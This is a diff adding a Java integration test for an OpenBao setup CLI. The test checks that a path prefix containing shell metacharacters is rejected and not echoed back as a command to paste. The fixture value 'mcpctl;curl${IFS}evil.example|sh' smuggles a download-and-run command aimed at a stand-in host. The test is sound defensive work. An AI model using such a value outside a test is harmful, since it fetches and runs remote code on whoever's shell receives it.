@@ -712,6 +712,35 @@ class OpenBaoWizardIT {
   }
 
   @Test
+  void aPathPrefixAShellWouldActOnIsNeverOfferedAsAFlagToPaste() {
+    CliHarness.Result first = fixture.runWithRootToken(new CliHarness(), "bao");
+    assertThat(first.exitCode()).as(first.toString()).isZero();
+    String hostile = "mcpctl;curl${IFS}evil.example|sh";
+    client
+        .resources(SecretBackend.class)
+        .inNamespace(fixture.namespace)
+        .withName("bao")
+        .edit(
+            backend -> {
+              backend.getSpec().getOpenbao().getKv().setPathPrefix(hostile);
+              return backend;
+            });
+
+    CliHarness.Result rerun = fixture.runWithRootToken(new CliHarness(), "bao");
+
+    assertThat(rerun.exitCode()).as(rerun.toString()).isEqualTo(1);
+    assertThat(rerun.stderr().strip())
+        .isEqualTo(
+            "error: SecretBackend bao uses path prefix "
+                + hostile
+                + ", and without --path-prefix this run would move it to path prefix mcpctl,"
+                + " where its MCP secrets are not; pass --path-prefix with the value the"
+                + " backend's spec holds (it has characters a shell would act on, so check who"
+                + " wrote it; this run does not repeat it as a command) to keep it, or the new one"
+                + " to move it on purpose.");
+  }
+
+  @Test
   void aReRunKeepsTheConsumersSettingAndWhichBackendIsTheDefault() {
     CliHarness.Result first = fixture.runWithRootToken(new CliHarness(), "bao");
     assertThat(first.exitCode()).as(first.toString()).isZero();
